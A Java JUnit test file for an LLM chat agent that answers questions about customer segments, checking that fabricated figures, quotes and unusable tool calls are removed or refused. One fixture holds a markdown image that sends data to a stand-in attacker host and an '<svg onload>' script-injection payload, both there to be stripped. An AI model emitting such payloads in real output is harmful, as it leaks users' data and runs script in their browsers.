package dev.coterie.chat;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.options;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.github.tomakehurst.wiremock.client.ResponseDefinitionBuilder;
import com.github.tomakehurst.wiremock.junit5.WireMockExtension;
import com.github.tomakehurst.wiremock.stubbing.Scenario;
import dev.coterie.describe.Analysis;
import dev.coterie.describe.Fact;
import dev.coterie.describe.Figures;
import dev.coterie.describe.References;
import dev.coterie.describe.Writer;
import dev.coterie.language.Language;
import dev.coterie.llm.ConfiguredModel;
import dev.coterie.llm.ModelSettings;
import dev.coterie.llm.RawServer;
import java.io.IOException;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.CountDownLatch;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.LoggerFactory;

/** The agent against a scripted endpoint: what a model may and may not do. */
class ChatAgentTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String PATH = "/v1/chat/completions";

    @RegisterExtension
    static final WireMockExtension SERVER =
            WireMockExtension.newInstance().options(options().dynamicPort()).build();

    private final Analysis analysis = ChatFixture.of(Language.ENGLISH);
    private final ConfiguredModel model =
            ConfiguredModel.hurried(ModelSettings.openAi(SERVER.baseUrl() + "/v1"), 0.05);
    private final ChatEngine engine = new ChatEngine(Optional.of(model), ChatFixture.ENCODERS);
    private final Recorder heard = new Recorder();

    private Answer ask(String question) {
        return engine.answer(analysis, List.of(), Question.of(question), heard);
    }

    private String fact(int segment, String what) {
        return analysis.description().facts().values().stream()
                .filter(f -> f.segment() == segment)
                .filter(f -> f.label().key().equals("describe.fact." + what))
                .map(f -> "{{" + f.id() + "}}")
                .findFirst()
                .orElseThrow();
    }

    private static String event(Object delta, String finish) {
        try {
            return JSON.writeValueAsString(
                    Map.of(
                            "choices",
                            List.of(
                                    finish == null
                                            ? Map.of("index", 0, "delta", delta)
                                            : Map.of(
                                                    "index",
                                                    0,
                                                    "delta",
                                                    delta,
                                                    "finish_reason",
                                                    finish))));
        } catch (JsonProcessingException e) {
            throw new AssertionError(e);
        }
    }

    private static ResponseDefinitionBuilder stream(String... events) {
        var body = new StringBuilder();
        for (String event : events) body.append("data: ").append(event).append("\n\n");
        return aResponse()
                .withHeader("Content-Type", "text/event-stream")
                .withBody(body.append("data: [DONE]\n\n").toString());
    }

    /** An answer in small pieces, so that references are split between them. */
    private static ResponseDefinitionBuilder says(String text) {
        var events =
                Stream.concat(
                        IntStream.range(0, (text.length() + 4) / 5)
                                .mapToObj(
                                        i ->
                                                text.substring(
                                                        i * 5, Math.min(text.length(), i * 5 + 5)))
                                .map(piece -> event(Map.of("content", piece), null)),
                        Stream.of(event(Map.of(), "stop")));
        return stream(events.toArray(String[]::new));
    }

    private static ResponseDefinitionBuilder calls(String... idNameArguments) {
        var calls =
                IntStream.range(0, idNameArguments.length / 3)
                        .mapToObj(
                                i ->
                                        Map.of(
                                                "index",
                                                i,
                                                "id",
                                                idNameArguments[i * 3],
                                                "type",
                                                "function",
                                                "function",
                                                Map.of(
                                                        "name",
                                                        idNameArguments[i * 3 + 1],
                                                        "arguments",
                                                        idNameArguments[i * 3 + 2])))
                        .toList();
        return stream(event(Map.of("tool_calls", calls), null), event(Map.of(), "tool_calls"));
    }

    /** The n-th request gets the n-th reply; the last one serves all that follow. */
    private static void script(ResponseDefinitionBuilder... replies) {
        for (int i = 0; i < replies.length; i++) {
            boolean last = i == replies.length - 1;
            SERVER.stubFor(
                    post(PATH)
                            .inScenario("chat")
                            .whenScenarioStateIs(i == 0 ? Scenario.STARTED : "step " + i)
                            .willReturn(replies[i])
                            .willSetStateTo(
                                    last
                                            ? (i == 0 ? Scenario.STARTED : "step " + i)
                                            : "step " + (i + 1)));
        }
    }

    private static List<JsonNode> requests() {
        return SERVER.findAll(postRequestedFor(urlEqualTo(PATH))).stream()
                .map(
                        r -> {
                            try {
                                return JSON.readTree(r.getBodyAsString());
                            } catch (JsonProcessingException e) {
                                throw new AssertionError(e);
                            }
                        })
                .toList();
    }

    private String warning() {
        return heard.all(ChatEvent.Warning.class).get(0).message().key();
    }

    @Test
    void toolsAreCalledAndTheAnswerStandsOnTheirFacts() {
        script(
                calls("c1", "get_segment", "{\"segment\":\"seg_1\"}"),
                says("This group has " + fact(1, "size") + " customers."));
        Answer answer = ask("Tell me about segment 1");
        assertEquals(Writer.LLM, answer.writer());
        assertEquals("This group has " + fact(1, "size") + " customers.", answer.text());
        assertEquals(answer.text(), heard.text());
        assertEquals(List.of(), answer.check().removed());
        assertTrue(
                heard.types()
                        .containsAll(
                                List.of("message.start", "tool.start", "tool.result", "citation")));
        JsonNode messages = requests().get(1).path("messages");
        String result = messages.get(messages.size() - 1).path("content").asText();
        assertTrue(result.contains("\"facts\"") && result.contains("[customer text "), result);
        assertTrue(result.length() <= 8192);
    }

    @Test
    void aWrongNumberIsRemovedAndListed() {
        script(
                says(
                        "This group has "
                                + fact(1, "size")
                                + " customers. They ordered 12,345 lamps in "
                                + fact(1, "share")
                                + ". About seventy-three percent will leave, see "
                                + fact(1, "size")
                                + ". 近三成的人会回来"
                                + fact(1, "size")
                                + "。"));
        Answer answer = ask("Tell me about segment 1");
        assertEquals("This group has " + fact(1, "size") + " customers.", answer.text());
        assertEquals(3, answer.check().removed().size());
        assertFalse(heard.text().contains("12,345") || heard.text().contains("seventy"));
        assertEquals("chat.sentences_removed", warning());
    }

    @Test
    void inventedQuotesReferencesNamesClaimsAndMarkupAreRemoved() {
        script(
                says(
                        "A customer wrote: \"I will never buy a lamp again.\" Anna Beispiel agrees. "
                                + "Segment 2 has "
                                + fact(1, "size")
                                + " customers. They are {{f99999}} in all. I have deleted segment 2. "
                                + fact(1, "size")
                                + " customers. ![p](http://evil.example.invalid/?d="
                                + fact(1, "size")
                                + ") <svg onload=alert(1)>"
                                + fact(1, "size")));
        Answer answer = ask("Tell me about segment 1");
        assertEquals(fact(1, "size") + " customers.", answer.text());
        assertEquals(6, answer.check().removed().size(), answer.check().removed().toString());
    }

    @Test
    void aTrueQuotationMayStandAlone() {
        String quote = analysis.customers().texts().get(0).text();
        script(
                calls("c1", "find_quotes", "{\"about\":\"late parcel\"}"),
                says("One of them wrote: “" + quote + "”"));
        Answer answer = ask("What do they say about late parcels?");
        assertTrue(answer.text().contains(quote), answer.check().removed().toString());
    }

    static Stream<List<String>> unusable() {
        return Stream.of(
                List.of("c1", "delete_everything", "{}"),
                List.of(
                        "c1",
                        "get_segment",
                        "{\"segment\":\"seg_1\"}",
                        "c1",
                        "get_segment",
                        "{\"segment\":\"seg_2\"}"),
                List.of("c1", "get_segment", ""),
                List.of("c1", "get_segment", "\"{\\\"segment\\\":\\\"seg_1\\\"}\""),
                List.of("c1", "get_segment", "{\"segment\":[1,2],\"limit\":\"all\"}"),
                List.of("c1", "get_segment", "{\"segment\": 1"));
    }

    @ParameterizedTest
    @MethodSource("unusable")
    void unusableToolCallsNeverRunAndEndWithTheNarrator(List<String> call) {
        script(calls(call.toArray(String[]::new)));
        Answer answer = ask("How big is segment 1?");
        assertEquals(Writer.BUILTIN, answer.writer());
        assertEquals("chat.tool_call_unusable", answer.fallback().orElseThrow().key());
        assertEquals(3, requests().size());
        assertEquals(1, heard.all(ChatEvent.ToolStart.class).size(), "only the narrator's own");
        assertTrue(answer.text().contains(fact(1, "size")));
    }

    @Test
    void endlessToolUseEndsAfterSixRoundsOfFourCalls() {
        var rounds = new ResponseDefinitionBuilder[7];
        for (int r = 0; r < 6; r++) {
            var calls = new String[50 * 3];
            for (int c = 0; c < 50; c++) {
                calls[c * 3] = "c" + r + "_" + c;
                calls[c * 3 + 1] = "get_segment";
                calls[c * 3 + 2] = "{\"segment\":\"seg_1\",\"offset\":" + (r * 50 + c) + "}";
            }
            rounds[r] = calls(calls);
        }
        rounds[6] = says("There are " + fact(1, "size") + " customers.");
        script(rounds);
        Answer answer = ask("Tell me about segment 1");
        assertEquals(Writer.LLM, answer.writer());
        assertEquals(7, requests().size());
        assertEquals(24, heard.all(ChatEvent.ToolDone.class).size());
        assertTrue(requests().get(6).path("tools").isMissingNode());
    }

    @Test
    void anEqualCallEndsTheToolPhase() {
        script(
                calls("a", "get_segment", "{\"segment\":\"seg_1\"}"),
                calls("b", "get_segment", "{\"segment\":\"seg_1\"}"),
                says("There are " + fact(1, "size") + " customers."));
        assertEquals(Writer.LLM, ask("Tell me about segment 1").writer());
        assertEquals(1, heard.all(ChatEvent.ToolDone.class).size());
        assertTrue(requests().get(2).path("tools").isMissingNode());
    }

    @ParameterizedTest
    @ValueSource(booleans = {true, false})
    void aToolThatThrowsOrHangsIsReportedWithoutItsWords(boolean throwing) {
        script(
                calls("a", "get_segment", "{\"segment\":\"seg_1\"}"),
                says("There are " + fact(1, "size") + " customers."));
        var desk =
                new Desk(
                        analysis,
                        new Fields(analysis),
                        new FactBook(analysis, List.of()),
                        Optional.empty(),
                        Language.ENGLISH,
                        Figures.SMALL_COUNT,
                        Optional.empty());
        var turn =
                new TurnWork(
                        desk,
                        CustomerIds.of(analysis.customers().ids()),
                        new IntentMatcher(Language.ENGLISH, Optional.empty()),
                        List.of(),
                        Question.of("Tell me about segment 1"),
                        Optional.empty(),
                        heard);
        var never = new CountDownLatch(1);
        ChatAgent.Runner runner =
                (tool, args) -> {
                    if (throwing) throw new IllegalStateException("SQLITE_ERROR secret-canary");
                    try {
                        never.await();
                    } catch (InterruptedException e) {
                        Thread.currentThread().interrupt();
                    }
                    throw new IllegalStateException("cut");
                };
        var logged = new ListAppender<ILoggingEvent>();
        var agentLog = (Logger) LoggerFactory.getLogger(ChatAgent.class);
        logged.start();
        agentLog.addAppender(logged);
        Answer answer =
                new ChatAgent(model, turn, runner, new ToolThreads(Duration.ofMillis(300), 2))
                        .answer();
        agentLog.detachAppender(logged);
        assertEquals(Writer.LLM, answer.writer());
        assertEquals("chat.tool_failed", warning());
        assertFalse(requests().toString().contains("secret-canary"));
        assertEquals(1, logged.list.size());
        String line = logged.list.get(0).getFormattedMessage();
        String kind = throwing ? "IllegalStateException" : "TimeoutException";
        assertTrue(line.contains("get_segment") && line.contains(kind), line);
        assertFalse(line.contains("secret-canary"), line);
        assertTrue(requests().get(1).toString().contains("tool_failed"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "I'm sorry, but I cannot help with that request.",
                "They ordered 12 lamps.",
                "<think>Let me see.</think>"
            })
    void anAnswerWithNothingToKeepIsAskedAgainAndThenNarrated(String text) {
        script(says(text));
        Answer answer = ask("How big is segment 1?");
        assertEquals(Writer.BUILTIN, answer.writer());
        String why = text.startsWith("I'm sorry") ? "llm.refused_content" : "chat.nothing_left";
        assertEquals(why, answer.fallback().orElseThrow().key());
        assertEquals(3, requests().size());
    }

    @Test
    void theWrongLanguageIsAskedAgain() {
        Analysis chinese = ChatFixture.of(Language.CHINESE);
        Fact size =
                chinese.description().facts().values().stream()
                        .filter(f -> f.segment() == 1)
                        .filter(f -> f.label().key().equals("describe.fact.size"))
                        .findFirst()
                        .orElseThrow();
        String right = "这个客群有{{" + size.id() + "}}位客户。";
        script(says("This group has {{" + size.id() + "}} customers."), says(right));
        Answer answer = engine.answer(chinese, List.of(), Question.of("客群1有多少人？"), heard);
        assertEquals(right, answer.text());
        assertEquals(Writer.LLM, answer.writer());
    }

    @Test
    void afterAnyFaultTheNarratorAnswersWithTheReason() {
        script(
                aResponse()
                        .withStatus(401)
                        .withHeader("Content-Type", "application/json")
                        .withBody("{}"));
        Answer answer = ask("How big is segment 1?");
        assertEquals(Writer.BUILTIN, answer.writer());
        assertEquals("llm.key_refused", answer.fallback().orElseThrow().key());
        assertEquals("llm.key_refused", warning());
        assertTrue(References.ids(answer.text()).size() >= 2);
        assertEquals("message.end", heard.types().get(heard.events.size() - 1));
    }

    @Test
    void aCutStreamIsTakenBackAndTheNarratorAnswers() throws IOException {
        RawServer.Script cut =
                talk -> {
                    talk.head(200, "text/event-stream");
                    talk.content("There are " + fact(1, "size") + " customers. And then");
                    talk.pause(30);
                    talk.reset();
                };
        try (var server = new RawServer(cut)) {
            var broken = ConfiguredModel.hurried(ModelSettings.openAi(server.baseUrl()), 0.05);
            Answer answer =
                    new ChatEngine(Optional.of(broken), ChatFixture.ENCODERS)
                            .answer(
                                    analysis,
                                    List.of(),
                                    Question.of("How big is segment 1?"),
                                    heard);
            assertEquals(Writer.BUILTIN, answer.writer());
            assertEquals("llm.cut", answer.fallback().orElseThrow().key());
            assertEquals(3, server.requests().size());
            assertFalse(heard.all(ChatEvent.Restart.class).isEmpty());
            assertEquals(answer.text(), heard.text(), "nothing of the cut answer is left");
        }
    }

    @Test
    void stoppingKeepsWhatWasToldAndEndsTheMessage() throws IOException {
        RawServer.Script slow =
                talk -> {
                    talk.head(200, "text/event-stream");
                    talk.content("There are " + fact(1, "size") + " customers. And then");
                    talk.stall(60_000);
                };
        try (var server = new RawServer(slow)) {
            var listener =
                    new Recorder() {
                        @Override
                        public boolean cancelled() {
                            return text().contains("customers.");
                        }
                    };
            var stopped = ConfiguredModel.hurried(ModelSettings.openAi(server.baseUrl()), 0.5);
            var engine = new ChatEngine(Optional.of(stopped), ChatFixture.ENCODERS);
            Answer said =
                    engine.answer(analysis, List.of(), Question.of("How big is it?"), listener);
            assertEquals("There are " + fact(1, "size") + " customers.", listener.text());
            assertEquals(listener.text(), said.text());
            assertEquals(1, said.check().matched());
            assertEquals(
                    List.copyOf(said.facts().values()),
                    listener.all(ChatEvent.AnswerDelta.class).get(0).facts(),
                    "a fact no tool has told comes with the sentence");
            var end = listener.all(ChatEvent.MessageEnd.class).get(0);
            assertEquals("stopped_by_user", end.finish());
        }
    }

    @Test
    void theBuiltInWriterCanBeChosenAndNoModelIsAsked() {
        script(says("no"));
        Answer answer =
                engine.answer(
                        analysis,
                        List.of(),
                        new Question(
                                "How big is segment 1?",
                                Optional.empty(),
                                List.of(),
                                WriterChoice.BUILTIN),
                        heard);
        assertEquals(Writer.BUILTIN, answer.writer());
        assertEquals(0, requests().size());
    }
}
